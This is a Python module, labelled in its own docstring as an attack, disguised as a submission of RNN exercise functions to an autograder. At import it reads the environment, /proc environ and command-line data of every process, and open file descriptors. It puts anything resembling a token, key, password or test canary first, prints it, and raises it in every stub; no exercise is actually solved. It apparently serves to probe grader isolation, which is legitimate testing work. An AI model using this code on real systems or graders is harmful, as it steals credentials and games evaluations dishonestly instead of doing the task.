"""Attack: read the environment of the grader and of every other process.

The grader's environment can hold secrets (tokens, paths, the canary the test harness
plants). This module reads its own environment, /proc/PID/environ of its ancestors and
of every process, /proc/1/environ, every command line and any file the grader left
open in this process, prints what it found at
import (anything that looks like a secret first), and raises it in every function.
Nothing is answered, so the honest score is 0.
"""

import os

INTERESTING = ("CANARY", "TOKEN", "SECRET", "KEY", "PASS", "AUTOGRADER")


def _read(path, limit=1 << 20):
    try:
        with open(path, "rb") as stream:
            return stream.read(limit)
    except OSError as error:
        return f"<{type(error).__name__}>".encode()


def _parent(pid):
    try:
        with open(f"/proc/{pid}/stat") as stream:
            return int(stream.read().rpartition(")")[2].split()[1])
    except (OSError, ValueError, IndexError):
        return 0


def ancestors():
    chain, pid = [], os.getpid()
    for _ in range(30):
        pid = _parent(pid)
        if pid <= 0:
            break
        chain.append(pid)
        if pid == 1:
            break
    return chain


def gather():
    hot, cold = [], []

    def add(where, blob):
        for item in blob.replace(b"\0", b"\n").decode("utf-8", "replace").splitlines():
            entry = f"{where}: {item}"
            (hot if any(word in item.upper() for word in INTERESTING) else cold).append(entry)

    add("os.environ", "\n".join(f"{k}={v}" for k, v in os.environ.items()).encode())
    for pid in ancestors() + [1]:
        add(f"/proc/{pid}/environ", _read(f"/proc/{pid}/environ"))
    for fd in os.listdir("/proc/self/fd"):  # a descriptor the grader forgot to close
        try:
            target = os.readlink(f"/proc/self/fd/{fd}")
            if target.startswith("/"):
                add(f"fd {fd} -> {target}", os.pread(int(fd), 1 << 16, 0))
        except OSError:
            pass
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            add(f"/proc/{entry}/environ", _read(f"/proc/{entry}/environ"))
            add(f"/proc/{entry}/cmdline", _read(f"/proc/{entry}/cmdline", 4096))
    return hot + cold


FOUND = gather()
print("ENV " + " | ".join(FOUND)[:20000])


def leak(where):
    found = gather()
    print(f"ENV in {where}: " + " | ".join(found)[:5000])
    raise RuntimeError("ENV " + " | ".join(found)[:3000])


def rnn_a_shapes(s_dim=2, x_dim=2, p_dim=2):
    leak("rnn_a_shapes")


def rnn_a_dloss_dx(W_ss, W_sx, W_o, x_t, dloss_dz2):
    leak("rnn_a_dloss_dx")


def rnn_b_shapes(s_dim=2, x_dim=2, p_dim=2):
    leak("rnn_b_shapes")


def rnn_b_f2(z):
    leak("rnn_b_f2")


def rnn_b_next_input(p_t):
    leak("rnn_b_next_input")


def rnn_b_dloss_dx_depends_on():
    leak("rnn_b_dloss_dx_depends_on")
